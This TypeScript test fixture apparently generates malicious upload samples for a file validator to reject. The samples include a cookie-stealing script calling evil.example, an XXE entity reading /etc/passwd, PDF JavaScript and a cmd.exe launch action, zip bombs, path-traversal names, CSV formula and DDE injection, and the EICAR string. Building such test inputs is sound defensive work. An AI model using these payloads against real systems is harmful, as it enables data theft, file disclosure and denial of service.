import { deflateSync } from 'node:zlib';
import { csv, jpeg, pdf, png, xlsx } from './good-files.js';
import { crc32, zipFile } from './zip-file.js';

/** A file that must not get in, and the code it is refused with. */
export interface AttackFile {
  readonly title: string;
  readonly fileName: string;
  readonly declaredType: string;
  readonly bytes: Buffer;
  readonly code: string;
}

/** In two parts, so that no scanner takes our source for what it is looking for. */
export const EICAR = ['X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR', '-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*'].join('');

const XLSX = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';
const SCRIPT = '<script>fetch("https://evil.example/" + document.cookie)</script>';
const HTML = `<!doctype html><html><body>${SCRIPT}</body></html>`;
const SVG = `<svg xmlns="http://www.w3.org/2000/svg">${SCRIPT}</svg>`;
const DTD = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>';

function pngChunk(type: string, data: Buffer): Buffer {
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const [length, crc] = [Buffer.alloc(4), Buffer.alloc(4)];
  length.writeUInt32BE(data.length);
  crc.writeUInt32BE(crc32(body));
  return Buffer.concat([length, body, crc]);
}

/** A correct PNG of 20,000 x 20,000 points in some 50 kB. */
export function pixelFlood(side = 20_000): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(side, 0);
  header.writeUInt32BE(side, 4);
  header.set([1, 0, 0, 0, 0], 8);
  const rows = deflateSync(Buffer.alloc(side * (1 + Math.ceil(side / 8))));
  const signature = Buffer.from('\x89PNG\r\n\x1a\n', 'latin1');
  const chunks = [pngChunk('IHDR', header), pngChunk('IDAT', rows), pngChunk('IEND', Buffer.alloc(0))];
  return Buffer.concat([signature, ...chunks]);
}

/** A picture, a page with a script and a PDF at once: what it is depends on who opens it. */
export const polyglot = async (): Promise<Buffer> =>
  Buffer.concat([await png(7), Buffer.from(`${HTML}\n`), pdf()]);

const image = (title: string, bytes: Buffer | string, code: string, fileName = 'photo.png'): AttackFile => ({
  ...{ title, fileName, code },
  declaredType: /\.jpe?g$/.test(fileName) ? 'image/jpeg' : 'image/png',
  bytes: Buffer.from(bytes),
});
const paper = (title: string, bytes: Buffer, code: string, fileName = 'certificate.pdf'): AttackFile => ({
  ...{ title, fileName, bytes, code },
  declaredType: 'application/pdf',
});
const sheet = (title: string, bytes: Buffer, code: string): AttackFile => ({
  ...{ title, bytes, code },
  fileName: 'stock.xlsx',
  declaredType: XLSX,
});
const table = (title: string, bytes: Buffer | string, code: string): AttackFile => ({
  ...{ title, code },
  fileName: 'stock.csv',
  declaredType: 'text/csv',
  bytes: Buffer.from(bytes),
});

async function images(): Promise<readonly AttackFile[]> {
  const [photo, picture] = await Promise.all([jpeg(), png()]);
  return [
    image('an empty file', '', 'empty'),
    image('HTML as PNG', HTML, 'type-not-allowed'),
    image('SVG as PNG', SVG, 'type-not-allowed'),
    image('SVG with a declaration as PNG', `<?xml version="1.0"?>${SVG}`, 'type-not-allowed'),
    image('a program as PNG', Buffer.from('MZ\x90\x00'.padEnd(400, '\0'), 'latin1'), 'type-not-allowed'),
    image('an archive as PNG', zipFile([{ name: 'a', content: 'a' }]), 'name-differs'),
    image('a PDF as PNG', pdf(), 'name-differs'),
    image('a picture with a PDF name', picture, 'name-differs', 'photo.pdf'),
    image('a picture without an ending', picture, 'name-differs', 'photo'),
    image('a PNG called JPEG', picture, 'name-differs', 'photo.jpg'),
    image('a script before the ending', picture, 'name-not-allowed', 'photo.php.png'),
    image('a page before the ending', picture, 'name-not-allowed', 'photo.HTML .png'),
    image('a program after it', picture, 'name-not-allowed', 'photo.png.exe'),
    image('a hidden program, by a right-to-left override', picture, 'name-not-allowed', 'photo\u202Egnp.exe'),
    image('a flood of pixels', pixelFlood(), 'too-many-pixels'),
    image('a truncated photo', photo.subarray(0, photo.length >> 1), 'cannot-be-read', 'photo.jpg'),
    image('nothing behind the first bytes', picture.subarray(0, 40), 'cannot-be-read'),
  ];
}

const MEGABYTES = (count: number): Buffer => Buffer.alloc(count * 1024 * 1024);
const encoded = (name: string): string => name.replace('J', '#4a').replace('L', '#4C');
const objectStream = (content: string): string => {
  const packed = deflateSync(Buffer.from(content)).toString('latin1');
  return `>> endobj\n9 0 obj << /Type /ObjStm /Filter /FlateDecode >> stream\n${packed}\nendstream endobj\n5 0 obj <<`;
};

const papers = (): readonly AttackFile[] => [
  paper('a PDF with a script', pdf('/OpenAction << /S /JavaScript /JS (app.alert(1)) >>'), 'active-content'),
  paper('a script under an escaped name', pdf(`/A << /S ${encoded('/JavaScript')} >>`), 'active-content'),
  paper('a script in a packed object', pdf(objectStream('<< /S /JavaScript /JS (1) >>')), 'active-content'),
  paper('a PDF that starts a program', pdf('/AA << /O << /S /Launch /F (cmd.exe) >> >>'), 'active-content'),
  paper('a PDF with a file inside', pdf('/Names << /EmbeddedFiles 5 0 R >>'), 'active-content'),
  paper('an encrypted PDF', pdf('/Encrypt 9 0 R'), 'encrypted'),
  paper('a PDF without an end', pdf().subarray(0, 200), 'cannot-be-read'),
  paper('a PDF with an archive behind', Buffer.concat([pdf(), zipFile([]), pdf()]), 'type-not-allowed'),
  paper('a page before a PDF', Buffer.concat([Buffer.from(HTML), pdf()]), 'type-not-allowed'),
];

const sheets = (): readonly AttackFile[] => [
  sheet(
    'a zip bomb',
    xlsx([{ name: 'xl/worksheets/sheet2.xml', content: MEGABYTES(60) }]),
    'unpacks-too-large',
  ),
  sheet(
    'a zip bomb that lies about its size',
    xlsx([{ name: 'xl/worksheets/sheet2.xml', content: MEGABYTES(60), claims: 900 }]),
    'unpacks-too-large',
  ),
  sheet(
    'an archive that is no workbook',
    zipFile([{ name: 'readme.xml', content: '<a/>' }]),
    'type-not-allowed',
  ),
  sheet(
    'an archive in the workbook',
    xlsx([{ name: 'xl/media/a.zip', content: zipFile([]) }]),
    'unsafe-entry',
  ),
  sheet(
    'an archive under another name in it',
    xlsx([{ name: 'xl/media/a.png', content: zipFile([{ name: 'b', content: 'b' }]) }]),
    'unsafe-entry',
  ),
  sheet('a name that climbs out', xlsx([{ name: '../../etc/cron.d/x', content: 'x' }]), 'unsafe-entry'),
  sheet('an absolute name', xlsx([{ name: '/etc/passwd', content: 'x' }]), 'unsafe-entry'),
  sheet('a name of another system', xlsx([{ name: 'xl\\..\\..\\x', content: 'x' }]), 'unsafe-entry'),
  sheet(
    'two entries of one name',
    xlsx([
      { name: 'xl/a.xml', content: '<a/>' },
      { name: 'XL/A.xml', content: '<b/>' },
    ]),
    'unsafe-entry',
  ),
  sheet('macros', xlsx([{ name: 'xl/vbaProject.bin', content: 'macro' }]), 'active-content'),
  sheet('a document type', xlsx([{ name: 'xl/styles.xml', content: `${DTD}<x>&a;</x>` }]), 'active-content'),
  sheet(
    'a document type in UTF-16',
    xlsx([{ name: 'xl/styles.xml', content: Buffer.from(`\uFEFF${DTD}<x/>`, 'utf16le') }]),
    'active-content',
  ),
  sheet(
    'an object of another program',
    xlsx([{ name: 'xl/embeddings/o.bin', content: 'x' }]),
    'active-content',
  ),
  sheet('an encrypted entry', xlsx([{ name: 'xl/a.xml', content: '<a/>', encrypted: true }]), 'encrypted'),
  sheet(
    'too many entries',
    xlsx(Array.from({ length: 2_001 }, (_, n) => ({ name: `xl/${n}.xml`, content: '' }))),
    'unpacks-too-large',
  ),
  sheet('half an archive', xlsx().subarray(0, 300), 'cannot-be-read'),
];

const tables = (): readonly AttackFile[] => [
  table('a NUL in a table', 'a,b\n1,\0\n', 'cannot-be-read'),
  table('a table that is no UTF-8', Buffer.from([0x61, 0x2c, 0xff, 0xfe, 0x0a]), 'cannot-be-read'),
  table('a page called a table', HTML, 'active-content'),
  table('a formula', 'a,b\n1,"=HYPERLINK(""https://evil.example"")"\n', 'active-content'),
  table('a command', "a,b\n1,+cmd|'/C calc'!A0\n", 'active-content'),
  {
    ...table('a table called a photo', csv(), 'type-not-allowed'),
    fileName: 'a.png',
    declaredType: 'image/png',
  },
  { ...table('a table declared as a PDF', csv(), 'type-differs'), declaredType: 'application/pdf' },
];

/** Every file that must be refused for what it is. Made here: nothing dangerous lies in the repository. */
export const attackFiles = async (): Promise<readonly AttackFile[]> => [
  ...(await images()),
  ...papers(),
  ...sheets(),
  ...tables(),
];

/** Files that only a scanner finds. */
export const infectedFiles = (): readonly AttackFile[] => [
  table('EICAR', EICAR, 'infected'),
  paper('EICAR behind a PDF', Buffer.concat([pdf(), Buffer.from(EICAR)]), 'infected'),
  sheet('EICAR in a workbook', xlsx([{ name: 'xl/media/a.bin', content: EICAR }]), 'infected'),
];
